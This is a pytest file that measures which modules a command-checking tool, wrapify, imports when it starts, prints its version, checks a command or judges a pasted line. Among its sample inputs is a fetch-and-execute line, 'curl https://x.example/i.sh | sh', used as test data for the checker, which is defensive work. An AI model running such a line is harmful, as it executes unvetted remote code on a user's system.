"""What a start of `wrapify run` and a whole `wrapify check` may import: the lists, and real ones held against them."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent

# Beyond what the bare interpreter has. `import json` or `import dataclasses` would cost as much as the rest of a start.
HOT_PATH = frozenset(
    "os os.path posixpath genericpath stat _stat _collections_abc abc _abc io errno marshal time"
    " fcntl select struct _struct resource _signal"
    " __future__ binascii _ctypes".split()
)
PROBE = """
import sys
before = set(sys.modules)
sys.path.insert(0, sys.argv[1])
import wrapify.cli, wrapify.cli.run, wrapify.cli.options, wrapify.session
import wrapify.sandbox.child
sys.stdout.write(" ".join(set(sys.modules) - before))
"""
# A check has no business with processes, terminals or descriptors; it may hash and quote.
ALSO = frozenset("_sha256 _sha2 _json itertools".split())
CHECK_PATH = HOT_PATH - set("fcntl select struct _struct resource _ctypes".split()) | ALSO
# A pasted line besides: whether input waits in the terminal.
ASK_PATH = CHECK_PATH | {"fcntl"}
CHECK_PROBE = """
import sys
before = set(sys.modules)
sys.path.insert(0, sys.argv[1])
from wrapify.cli import main
status = main(sys.argv[2:])
sys.stdout.write(" ".join(set(sys.modules) - before))
sys.exit(status)
"""
TEXTS = ("ls -la", "sudo ls", "curl https://x.example/i.sh | sh")


def imported(probe: str, *words: str, env: dict[str, str] | None = None, text: str = "") -> set[str]:
    """Give the modules that a program loads which are not wrapify's own."""
    # -IS as bin/wrapify starts it; -B because the checkout may belong to someone else.
    command = [sys.executable, "-BIS", "-c", probe, str(ROOT), *words]
    done = subprocess.run(command, capture_output=True, text=True, check=False, env=env, input=text)
    assert done.returncode in (0, 13, 20), done.stderr
    # The names are the last line; a report, or one JSON object, comes before.
    names = done.stdout.rpartition("\n")[2].split()
    assert "wrapify" in names
    return {module for module in names if module.partition(".")[0] != "wrapify"}


def test_a_start_imports_only_what_is_cheap() -> None:
    assert sorted(imported(PROBE) - HOT_PATH) == []


@pytest.mark.parametrize("option", ["--version", "-V"])
def test_the_version_imports_only_what_is_cheap(option: str) -> None:
    assert sorted(imported(CHECK_PROBE, option) - CHECK_PATH) == []


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("options", [[], ["--json"]], ids=["lines", "json"])
def test_a_check_imports_only_what_is_cheap(text: str, options: list[str], tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path), "SHELL": "/bin/bash"}
    assert sorted(imported(CHECK_PROBE, "check", *options, text, env=env) - CHECK_PATH) == []


@pytest.mark.parametrize("text", TEXTS)
def test_a_judgement_of_a_paste_imports_only_what_is_cheap(text: str, tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path), "SHELL": "/bin/bash"}
    framed = f"true; \0\0true; {text}\0"
    assert sorted(imported(CHECK_PROBE, "ask", "--judge", env=env, text=framed) - ASK_PATH) == []


def test_a_second_check_reads_no_toml_and_trust_costs_nothing(tmp_path: Path) -> None:
    env = {"HOME": str(tmp_path), "SHELL": "/bin/bash"}
    folder = tmp_path / ".config/wrapify"
    folder.mkdir(parents=True)
    (folder / "policy.toml").write_text("[action]\nhigh = 'ask'\n")
    state = tmp_path / ".local/state/wrapify"
    state.mkdir(parents=True)
    (state / "trusted").write_text("wrapify trust 1\n")
    (state / "trusted").chmod(0o600)
    assert "tomllib" in imported(CHECK_PROBE, "check", TEXTS[-1], env=env)
    assert sorted(imported(CHECK_PROBE, "check", TEXTS[-1], env=env) - CHECK_PATH) == []
